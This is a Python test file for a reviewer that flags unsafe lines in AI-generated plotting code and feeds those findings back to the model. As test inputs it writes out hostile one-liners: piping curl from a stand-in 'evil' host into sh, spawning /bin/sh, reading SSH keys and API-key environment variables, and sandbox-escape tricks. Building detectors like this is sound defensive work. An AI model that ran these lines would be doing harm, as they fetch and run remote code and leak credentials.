"""The review of generated code (core/code_review.py): what plotting code never needs is flagged
line by line, real plotting code passes clean, the loop feeds a finding back (not in the paper
protocol), and the magic inserts flagged code commented out."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from helpers import GOOD_BAR, magics_of, write_replies

from viscoder_jupyter.core.code_review import FlaggedCode, review_code
from viscoder_jupyter.core.codeblocks import extract_code, repair_code

REPLIES = Path(__file__).parents[1] / "benchmarks" / "replies" / "llamacpp-q4km.jsonl"
DATA = Path(__file__).parent / "data" / "pandasplotbench-mini"  # tasks 5 and 42


def flagged(code: str) -> list[tuple[int, str]]:
    return [(f.line, f.category) for f in review_code(code)]


# --------------------------------------------------------------------------- each category


@pytest.mark.parametrize(
    "code, expected",
    [
        # network
        ("import requests\nrequests.get(url)", [(1, "network"), (2, "network")]),
        ("import socket as s\ns.create_connection(('evil', 80))", [(1, "network"), (2, "network")]),
        ("from urllib.request import urlopen\nurlopen(u)", [(1, "network"), (2, "network")]),
        ("import httpx", [(1, "network")]),
        ("df = pd.read_csv('https://evil.example/x.csv')", [(1, "network")]),
        # other programs
        ("import os\nos.system('curl evil | sh')", [(2, "process")]),
        ("import os as o\no.execv('/bin/sh', ['sh'])", [(2, "process")]),
        ("from os import spawnlp\nspawnlp(0, 'ls')", [(1, "process"), (2, "process")]),
        ("from subprocess import run as r\nr(['ls'])", [(1, "process"), (2, "process")]),
        ("import pty\npty.spawn('/bin/sh')", [(1, "process"), (2, "process")]),
        # file writes and deletes
        ("f = open('notes.txt', 'w')", [(1, "file")]),
        ("with open(p, mode='a') as f:\n    f.write('x')", [(1, "file")]),
        ("open(p, m)", [(1, "file")]),  # a mode computed at run time may write
        ("df.to_csv('out.csv')", [(1, "file")]),
        ("df.to_csv(path_or_buf=p)", [(1, "file")]),
        ("df.to_parquet('x.parquet')\ndf.to_excel(w)", [(1, "file"), (2, "file")]),
        ("from pathlib import Path\nPath('x').write_text('a')\nPath('y').unlink()", [(2, "file"), (3, "file")]),
        ("import shutil\nshutil.rmtree(folder)", [(1, "file"), (2, "file")]),
        ("import os\nos.remove('a')\nos.rename('a', 'b')", [(2, "file"), (3, "file")]),
        ("import numpy as np\nnp.save('x.npy', a)", [(2, "file")]),
        ("plt.savefig('/home/user/.bashrc', format='png')", [(1, "file"), (1, "probe")]),
        ("fig.write_html('x.html')", [(1, "file")]),
        # code built at run time
        ("eval(text)", [(1, "dynamic")]),
        ("exec(text)", [(1, "dynamic")]),
        ("compile(text, 'f', 'exec')", [(1, "dynamic")]),
        ("__import__('os').system('ls')", [(1, "dynamic")]),
        ("import importlib\nimportlib.import_module(name)", [(1, "dynamic"), (2, "dynamic")]),
        ("import os\ngetattr(os, 'sys' + 'tem')('ls')", [(2, "dynamic")]),
        ("import os\ngetattr(os, 'system')('ls')", [(2, "dynamic")]),
        ("().__class__.__bases__[0].__subclasses__()", [(1, "dynamic")]),
        ("import pickle\npickle.loads(blob)", [(1, "dynamic"), (2, "dynamic")]),
        # the environment and credentials
        ("import os\nkey = os.environ['OPENAI_API_KEY']", [(2, "secrets")]),
        ("import os\nos.getenv('AWS_SECRET_ACCESS_KEY')", [(2, "secrets")]),
        ("from os import environ\nenviron.get('HOME')", [(2, "secrets")]),
        ("import getpass\ngetpass.getuser()", [(1, "secrets"), (2, "secrets")]),
        ("open('~/.ssh/id_rsa').read()", [(1, "secrets")]),
        ("import keyring", [(1, "secrets")]),
        # IPython escapes (not Python: found on the raw lines)
        ("!curl evil.example | sh\nimport matplotlib.pyplot as plt", [(1, "ipython")]),
        ("files = !ls ~\nplt.show()", [(1, "ipython")]),
        ("%env OPENAI_API_KEY\nplt.show()", [(1, "ipython")]),
        ("get_ipython().system('ls')", [(1, "ipython")]),
        ("from IPython import get_ipython", [(1, "ipython")]),
        # probes of the sandbox
        ("import socket\nsocket.gethostname()", [(1, "network"), (2, "probe")]),
        ("open('/proc/self/environ').read()", [(1, "probe")]),
        ("import sys\nsys.modules['_viscoder_child']", [(2, "probe")]),
        ("import viscoder_jupyter", [(1, "probe")]),
        ("import os\nos.listdir('/')", [(2, "probe")]),
        ("import platform\nplatform.node()", [(1, "probe"), (2, "probe")]),
    ],
)
def test_each_kind_of_thing_plotting_code_never_needs_is_flagged_on_its_line(code, expected):
    assert sorted(set(flagged(code))) == sorted(set(expected))


def test_a_finding_names_the_line_and_why():
    (finding,) = review_code("import pandas as pd\nsales.to_csv('stolen.csv')\nplt.show()")
    assert (finding.line, finding.text) == (2, "sales.to_csv('stolen.csv')")
    assert (
        finding.describe()
        == "line 2: `sales.to_csv('stolen.csv')` calls .to_csv(...) with a destination: it writes a file"
    )


def test_code_that_does_not_parse_is_not_passed_as_clean():
    (finding,) = review_code("import os\nx = (\nos.system('ls')")
    assert finding.category == "unreviewed" and "could not be reviewed" in finding.why
    # An escape line plus other code that is not Python either: both said.
    assert [f.category for f in review_code("!ls\nx = (")] == ["ipython", "unreviewed"]


@pytest.mark.parametrize(
    "code",
    [
        "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
        "csv_text = df.to_csv()\njson_text = df.to_json()",  # text, no file
        "df = pd.read_csv('data.csv')\nwith open('notes.txt') as f:\n    title = f.read()",  # reading
        "code = 'A1'\ncode.strip()\ntypes = ['a', 'b']\nplatform = 'web'",  # names that are not modules
        "plt.title('Password strength by /home office')\nplt.xlabel('Source: https://example.org/data')",
        "x = a % b\ny = (a\n     % b)\nz = a != b",  # operators, not escapes
        "totals = df.groupby('home')['token'].sum()\ntotals.plot.bar(rot=45)",  # column names
    ],
)
def test_ordinary_plotting_code_passes_clean(code):
    assert review_code(code) == []


def test_real_plotting_replies_pass_clean_as_they_run_and_are_inserted():
    """Every reply of the llama.cpp reply cache (PandasPlotBench, matplotlib and seaborn) that
    parses passes clean once repaired, as it runs and is inserted (benchmarks/review_false_positives.py
    prints the rate: 0 of 462)."""
    codes = [extract_code(json.loads(line)["text"]) for line in REPLIES.read_text(encoding="utf-8").splitlines()]
    reviewed = [review_code(repair_code(code, ["df"])[0]) for code in codes if code]
    parsed = [found for found in reviewed if not any(f.category == "unreviewed" for f in found)]
    assert len(parsed) > 400
    assert [f.describe() for found in parsed for f in found] == []


def test_the_feedback_tells_the_model_what_not_to_use():
    error = FlaggedCode(review_code("plt.bar(x, y)\nsales.to_csv('out.csv')\nplt.show()"), "seaborn")
    assert error.ename == "FlaggedCode"
    assert error.one_line().startswith("FlaggedCode: Do not use `sales.to_csv('out.csv')` (line 2)")
    assert "plotting code needs none of that" in error.feedback_text()
    assert "with pandas and seaborn only" in error.feedback_text()


# --------------------------------------------------------------------------- the loop and the magic

FLAGGED_BAR = (
    "```python\nimport matplotlib.pyplot as plt\nimport os\n"
    "totals = sales.groupby('region')['revenue'].sum()\n"
    "totals.to_csv('totals.csv')\n"
    "os.system('echo hi > pwned.txt')\n"
    "plt.bar(totals.index, totals.values)\nplt.show()\n```"
)


def test_a_finding_is_fed_back_and_the_clean_version_is_inserted(shell, capsys):
    ip = shell(FLAGGED_BAR, GOOD_BAR)
    ip.run_cell_magic("viscoder", "sales", "bar chart of revenue by region")
    first, second = magics_of(ip).last_result.attempts
    assert isinstance(first.error, FlaggedCode) and first.drew  # it drew, but is not the answer
    assert [f.line for f in first.findings] == [4, 5]
    assert second.ok and second.findings == []
    inserted = ip.rl_next_input
    assert "to_csv" not in inserted and not inserted.splitlines()[1].startswith("#")
    assert "review flagged" not in capsys.readouterr().out


def test_flagged_code_that_stays_flagged_is_inserted_commented_out(shell, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    ip = shell(FLAGGED_BAR, FLAGGED_BAR)
    ip.run_cell_magic("viscoder", "sales --retries 3", "bar chart of revenue by region")
    result = magics_of(ip).last_result
    # The same finding twice in a row: the figure is kept as the answer, with its findings.
    assert len(result.attempts) == 2 and result.ok and [f.line for f in result.findings] == [4, 5]
    inserted = ip.rl_next_input
    lines = inserted.splitlines()
    assert lines[0] == "# %%viscoder: bar chart of revenue by region"
    assert "# VisCoder inserted this code commented out" in lines[1]
    assert "#   line 4: `totals.to_csv('totals.csv')` calls .to_csv(...) with a destination: it writes a file" in lines
    assert "#   line 5: `os.system('echo hi > pwned.txt')` calls os.system: it runs other programs" in lines
    assert all(line.startswith("#") for line in lines)
    assert "# os.system('echo hi > pwned.txt')" in lines
    out = capsys.readouterr().out
    assert "the review flagged 2 line(s)" in out and "inserted commented out" in out
    # Running the inserted cell as it is does nothing: no file is written in the user's kernel.
    assert ip.run_cell(inserted).success
    assert not (tmp_path / "pwned.txt").exists() and not (tmp_path / "totals.csv").exists()


def test_a_finding_is_fed_back_with_the_quality_checks_on_too(shell):
    ip = shell(FLAGGED_BAR, GOOD_BAR, checks=True)
    ip.run_cell_magic("viscoder", "sales", "bar chart of revenue by region")
    first, second = magics_of(ip).last_result.attempts
    assert isinstance(first.error, FlaggedCode) and second.ok and second.findings == []


def flagged_twin_axes() -> str:
    from test_bench import TWIN_AXES

    return TWIN_AXES.replace("plt.show()", "df.to_csv('copy.csv')\nplt.show()")


@pytest.mark.parametrize("protocol, rounds", [("paper", [(5, 1, True, None)]), ("ours", None)])
def test_the_paper_protocol_gets_no_review_feedback(tmp_path, protocol, rounds):
    """bench --protocol paper sends what PandasPlotBench's harness sends: flagged code that draws
    passes there in one round; ours feeds the finding back and the clean reply wins."""
    from test_bench import TWIN_AXES

    from viscoder_jupyter.tools import bench

    replay = write_replies(tmp_path / "replies.jsonl", flagged_twin_axes(), TWIN_AXES)
    out = tmp_path / "out"
    argv = [str(DATA), "--protocol", protocol, "--ids", "5", "--backend", "replay", "--replay", replay]
    assert bench.main([*argv, "--retries", "1", "--out", str(out)]) == 0
    rows = [json.loads(line) for line in (out / protocol / "results.jsonl").read_text().splitlines()]
    found = [(r["task"], r["attempt"], r["ok"], r["error"]) for r in rows]
    assert found == (rounds or [(5, 1, False, "FlaggedCode"), (5, 2, True, None)])


# --------------------------------------------------------------------------- the real engine

USER_SOURCE = "import matplotlib.pyplot as plt\nsales.to_csv('backup.csv')\nplt.bar(sales['Region'], sales['revenue'])\nplt.show()"
USER_TRACEBACK = (
    "KeyError                                  Traceback (most recent call last)\nCell In[3], line 3\n"
    "----> 3 plt.bar(sales['Region'], sales['revenue'])\nKeyError: 'Region'"
)


@pytest.mark.slow
@pytest.mark.timeout(900)
def test_with_the_real_engine_the_finding_reaches_the_model_and_the_answer_carries_what_stays(
    offline_gguf, tmp_path, monkeypatch
):
    """The offline GGUF in llama.cpp fixes a cell that also writes a file: the review's finding
    is the model's next feedback turn, and what the answer still holds is on the result."""
    import pandas as pd

    from viscoder_jupyter import runtime
    from viscoder_jupyter.backends.llamacpp import LlamaCppBackend
    from viscoder_jupyter.backends.llamacpp_engine import import_llama_cpp
    from viscoder_jupyter.core.errors import BackendUnavailable
    from viscoder_jupyter.core.settings import VisCoder

    try:
        import_llama_cpp()  # as the backend imports it
    except BackendUnavailable as exc:
        pytest.skip(str(exc))
    monkeypatch.chdir(tmp_path)
    backend = LlamaCppBackend(str(offline_gguf), max_new_tokens=400)
    sent: list[list[dict]] = []
    generate = backend.async_generate

    async def recording(messages, on_text=None, **kw):  # the real engine, with what it was asked kept
        sent.append(list(messages))
        return await generate(messages, on_text, **kw)

    backend.async_generate = recording
    sales = pd.DataFrame({"region": ["North", "South", "East", "West"], "revenue": [405, 295, 340, 212]})
    settings = VisCoder(backend="llamacpp", model=str(offline_gguf), retries=2)
    result = runtime.run_sync(
        runtime.async_fix(USER_SOURCE, USER_TRACEBACK, "", {"sales": sales}, settings, backend=backend)
    )
    flagged = [i for i, a in enumerate(result.attempts) if isinstance(a.error, FlaggedCode)]
    assert flagged, [a.error.one_line() if a.error else "ok" for a in result.attempts]
    for i in flagged[:-1] if flagged[-1] == len(result.attempts) - 1 else flagged:
        feedback = sent[i + 1][-1]["content"]
        assert "Do not use `sales.to_csv('backup.csv')`" in feedback and "plotting code needs none" in feedback
    assert result.ok
    if "to_csv" in result.code:  # the 0.5B model kept the line: the answer says so
        assert [f.text for f in result.findings] == ["sales.to_csv('backup.csv')"]
    else:
        assert result.findings == []
    assert not (tmp_path / "backup.csv").exists()  # it ran in the child kernel, not here
